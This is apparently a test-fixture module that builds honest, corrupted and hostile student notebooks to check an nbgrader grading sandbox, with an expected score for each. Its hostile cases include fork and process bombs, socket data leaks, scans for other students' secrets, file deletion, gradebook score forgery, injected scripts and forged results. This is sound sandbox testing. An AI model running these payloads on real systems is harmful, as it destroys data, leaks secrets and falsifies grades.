"""A hostile and damaged class for a small plain-nbgrader assignment (``00_probe``).

The assignment has three exercises (``add`` 2 points, ``mean`` 3, ``shout`` 2, visible and
hidden asserts), so each submission runs in seconds. Every case is a student folder holding
``00_probe.ipynb`` built from the release; :data:`CASES` says what grading must give it:
an exact score, or "not graded" with words the reason must contain.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

ASSIGNMENT = "00_probe"
POINTS = {"add": 2, "mean": 3, "shout": 2}
FULL = sum(POINTS.values())
SECRET = "VICTIM-SECRET-7Q2X"  # in the victim's notebook only
SLEEPER = "HOSTILE-SLEEPER-4K9"  # in the command line of processes a submission leaves behind

ANSWERS = {
    "add": "def add(a, b):\n    return a + b",
    "mean": "def mean(values):\n    return sum(values) / len(values)",
    "shout": "def shout(text):\n    return text.upper() + '!'",
}
WRONG = {
    "add": "def add(a, b):\n    return a - b",
    "mean": "def mean(values):\n    return sum(values)",
    "shout": "def shout(text):\n    return text",
}
TESTS = {
    "add": ("assert add(1, 2) == 3", "assert add(-5, 5) == 0\nassert add(10, 20) == 30"),
    "mean": ("assert mean([1, 2, 3]) == 2", "assert mean([4]) == 4\nassert mean([1, 2]) == 1.5"),
    "shout": ("assert shout('hi') == 'HI!'", "assert shout('') == '!'\nassert shout('Ab') == 'AB!'"),
}
HIDDEN_LINES = ("assert add(-5, 5) == 0", "assert mean([1, 2]) == 1.5", "assert shout('Ab') == 'AB!'")


def source_notebook() -> nbformat.NotebookNode:
    """The instructor's version: solution regions and hidden tests, nbgrader metadata."""
    cells = [nbformat.v4.new_markdown_cell("# 00 probe\nThree small functions.")]
    for name in POINTS:
        body = ANSWERS[name].split("\n", 1)
        cells.append(nbformat.v4.new_code_cell(
            f"{body[0]}\n    ### BEGIN SOLUTION\n{body[1]}\n    ### END SOLUTION",
            metadata={"nbgrader": {"grade": False, "solution": True, "locked": False,
                                   "grade_id": f"{name}_answer", "schema_version": 3}},
        ))
        visible, hidden = TESTS[name]
        cells.append(nbformat.v4.new_code_cell(
            f"{visible}\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS",
            metadata={"nbgrader": {"grade": True, "solution": False, "locked": True, "points": POINTS[name],
                                   "grade_id": f"{name}_test", "schema_version": 3}},
        ))
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


def answered(release: nbformat.NotebookNode, answers: dict[str, str], *, before: str = "",
             extra: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The release with answer cells filled in; ``before`` runs first in the first answer cell,
    ``extra[name]`` is appended to that answer cell."""
    notebook = nbformat.from_dict(json.loads(json.dumps(release)))
    extra = extra or {}
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id.endswith("_answer"):
            name = grade_id[: -len("_answer")]
            code = answers.get(name, cell.source)
            if before and name == "add":
                code = before + "\n" + code
            cell.source = code + ("\n" + extra[name] if name in extra else "")
    return notebook


@dataclass(frozen=True)
class Case:
    """One submission: how to build it, and what grading must say."""

    name: str
    score: float | None = None  # None: not graded
    reason: str = ""  # words the not-graded reason must contain
    note: str = ""  # words one of the report's notes must contain


def _write(folder: Path, notebook: nbformat.NotebookNode) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{ASSIGNMENT}.ipynb"
    nbformat.write(notebook, path)
    return path


def build_class(release: nbformat.NotebookNode, incoming: Path, *, listen_port: int, canaries: list[Path],
                probe_root: Path) -> list[Case]:
    """Write every case under ``incoming``; return the cases with their expected outcomes."""
    cases: list[Case] = []

    def add(case: Case, notebook: nbformat.NotebookNode | None = None, raw: bytes | None = None,
            file_name: str | None = None) -> None:
        folder = incoming / case.name
        if raw is not None:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / (file_name or f"{ASSIGNMENT}.ipynb")).write_bytes(raw)
        else:
            _write(folder, notebook)
        cases.append(case)

    right, wrong = ANSWERS, WRONG
    # Honest students.
    add(Case("correct", FULL), answered(release, right))
    add(Case("blank", 0), answered(release, {}))
    add(Case("partly_wrong", FULL - POINTS["add"]), answered(release, {**right, "add": wrong["add"]}))
    add(Case("all_wrong", 0), answered(release, wrong))
    add(Case("warns", FULL), answered(release, {
        **right, "add": "import warnings\ndef add(a, b):\n    warnings.warn('harmless')\n    return a + b"}))
    add(Case("prints_to_stderr", FULL), answered(release, {
        **right, "mean": "import sys\ndef mean(values):\n    print('working...', file=sys.stderr)\n"
                         "    return sum(values) / len(values)"}))
    add(Case("progress_bar", FULL), answered(release, {
        **right, "shout": "import sys\ndef shout(text):\n    sys.stderr.write('\\r[####      ] 40%')\n"
                          "    return text.upper() + '!'"}))
    add(Case("alternative", FULL), answered(release, {
        **right, "mean": "import statistics\ndef mean(values):\n    return statistics.fmean(values)"}))
    add(Case("wrong_names", FULL - POINTS["add"]), answered(release, {
        **right, "add": "def plus(a, b):\n    return a + b"}))
    add(Case("syntax_error", FULL - POINTS["add"]), answered(release, {**right, "add": "def add(a, b)\n    return a + b"}))

    # Damaged files.
    text = nbformat.writes(answered(release, right))
    add(Case("truncated_json", None, "invalid JSON"), raw=text[: len(text) // 2].encode())
    add(Case("not_json", None, "not UTF-8"), raw=b"\x89PNG\r\n\x1a\n not a notebook")
    add(Case("empty_file", None, "invalid JSON"), raw=b"")
    add(Case("json_not_notebook", None, "Not a Jupyter notebook"), raw=b'{"hello": 1}')
    add(Case("utf8_bom", FULL, note="BOM"), raw=b"\xef\xbb\xbf" + text.encode())
    add(Case("not_utf8", None, "not UTF-8"), raw=text.replace("add(a, b)", "add(a, b) # caf\u00e9").encode("latin-1", "replace"))
    v3 = nbformat.convert(answered(release, right), 3)
    add(Case("nbformat_3", FULL), raw=nbformat.writes(v3, version=3).encode())
    stripped = answered(release, right)
    for cell in stripped.cells:
        cell.metadata = {}
    add(Case("stripped_metadata", FULL, note="restored"), stripped)
    deleted = answered(release, right)
    deleted.cells = [c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "mean_test"]
    add(Case("deleted_test_cell", FULL), deleted)
    edited = answered(release, wrong)
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") is True:
            cell.source = "pass  # tests removed"
    add(Case("edited_test_cells", 0), edited)
    duplicated = answered(release, wrong)
    first_test = next(c for c in duplicated.cells if c.metadata.get("nbgrader", {}).get("grade") is True)
    duplicated.cells.insert(1, nbformat.from_dict(json.loads(json.dumps(first_test))))
    add(Case("duplicated_test_cell", 0), duplicated)
    add(Case("hidden_test_marker_in_answer", FULL), answered(release, {
        **right, "add": "def add(a, b):\n    ### BEGIN HIDDEN TESTS\n    return a + b"}))
    # Two notebooks: the older one (wrong) must be ignored, the newer graded.
    folder = incoming / "two_notebooks"
    older = _write(folder, answered(release, wrong)).rename(folder / f"Copy of {ASSIGNMENT}.ipynb")
    newer = _write(folder, answered(release, right))
    import os
    os.utime(older, (1_700_000_000, 1_700_000_000))
    os.utime(newer, (1_800_000_000, 1_800_000_000))
    cases.append(Case("two_notebooks", FULL, note="ignored"))

    # Hostile code.
    add(Case("infinite_loop", FULL), answered(release, right, extra={"add": "while True:\n    pass"}))
    add(Case("uninterruptible_loop", 0, note="stopped"), answered(release, right, before=(
        "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)")))
    add(Case("memory_bomb", FULL), answered(release, right, extra={"add": (
        "try:\n    hog = bytearray(6 * 1024**3)\nexcept MemoryError:\n    print('memory refused')")}))
    add(Case("process_flood", FULL), answered(release, right, extra={"add": (
        "import subprocess\nsleepers = []\ntry:\n    for _ in range(300):\n"
        f"        sleepers.append(subprocess.Popen(['sh', '-c', 'sleep 1000; echo {SLEEPER}']))\n"
        "except OSError as error:\n    print('refused after', len(sleepers), error)")}))
    add(Case("fork_bomb", FULL), answered(release, right, extra={"add": (
        "import os, time\nchildren = 0\ntry:\n    for _ in range(2000):\n        if os.fork() == 0:\n"
        "            time.sleep(1000)\n            os._exit(0)\n        children += 1\n"
        "except OSError:\n    print('fork refused after', children)")}))
    add(Case("network", FULL), answered(release, right, extra={"add": (
        "import socket\nfor host, port in [('127.0.0.1', %d), ('10.0.2.2', %d), ('8.8.8.8', 53)]:\n"
        "    try:\n        socket.create_connection((host, port), timeout=2).sendall(b'leak')\n"
        "        print('CONNECTED', host)\n    except OSError as error:\n        print('blocked', host, error)"
        % (listen_port, listen_port))}))
    victim = answered(release, right)
    victim.cells.append(nbformat.v4.new_markdown_cell(f"my private notes {SECRET}"))
    add(Case("victim", FULL), victim)
    targets = [str(incoming), str(probe_root)]
    add(Case("reads_others", FULL), answered(release, right, extra={"add": (
        f"import os\nfound = []\nfor top in {targets!r} + ['/grading', '/tmp', '/root', '/home']:\n"
        "    for folder, dirs, files in os.walk(top):\n"
        "        if '.venv' in folder or '.pyenv' in folder:\n            dirs[:] = []\n            continue\n"
        "        for name in files:\n            try:\n"
        f"                if b'{SECRET}' in open(os.path.join(folder, name), 'rb').read(2_000_000):\n"
        "                    found.append(os.path.join(folder, name))\n"
        "            except OSError:\n                pass\n"
        "print('found', found)")}))
    writes = [str(p) for p in canaries]
    add(Case("writes_everywhere", FULL), answered(release, right, extra={"add": (
        f"import os, glob, shutil\nfor path in {writes!r}:\n"
        "    try:\n        open(path, 'w').write('pwned')\n        print('WROTE', path)\n"
        "    except OSError as error:\n        print('refused', error)\n"
        f"for pattern in ['{probe_root}/**/*.db', '{probe_root}/**/*.ipynb', '{incoming}/*']:\n"
        "    for path in glob.glob(pattern, recursive=True):\n"
        "        try:\n            shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)\n"
        "            print('DELETED', path)\n        except OSError as error:\n            print('refused', error)")}))
    add(Case("gradebook_writer", FULL), answered(release, right, extra={"add": (
        "import sqlite3, glob\n"
        f"for path in glob.glob('{probe_root}/**/gradebook.db', recursive=True) + ['gradebook.db']:\n"
        "    try:\n        db = sqlite3.connect(path)\n"
        "        db.execute(\"insert into student (id) values ('fake_student')\")\n"
        "        db.execute('update grade set manual_score = 100')\n"
        "        db.execute('create table pwned (x)')\n        db.commit()\n        print('WROTE', path)\n"
        "    except Exception as error:\n        print('refused', error)")}))
    add(Case("sys_exit", FULL), answered(release, right, extra={"add": "import sys\nsys.exit(3)"}))
    add(Case("os_exit", 0, note="stopped early"), answered(release, right, before="import os\nos._exit(0)"))
    add(Case("segfault", 0, note="stopped early"), answered(release, right, before="import ctypes\nctypes.string_at(0)"))
    add(Case("huge_output", FULL), answered(release, right, extra={"add": "print('x' * 20_000_000)"}))
    add(Case("live_script_and_escapes", FULL), answered(release, right, extra={"add": (
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>alert(\"pwned\")</script><b onmouseover=\"alert(1)\">hi</b>'))\n"
        "print('\\x1b[2J\\x1b]0;title\\x07\\x00\\x08 raw escapes')")}))
    add(Case("forged_result", 0, note="tampering"), answered(release, wrong, before=(
        "from IPython import get_ipython\nip = get_ipython()\n"
        "ip.events.register('pre_run_cell', lambda info: ip.displayhook(2.0))")))
    add(Case("prints_hidden_tests", 0), answered(release, wrong, before=(
        "from IPython import get_ipython\nip = get_ipython()\n"
        "ip.events.register('post_run_cell', lambda result: print('SOURCE:', result.info.raw_cell))")))
    add(Case("student_id_ünïcode 학생", FULL), answered(release, right))
    return cases
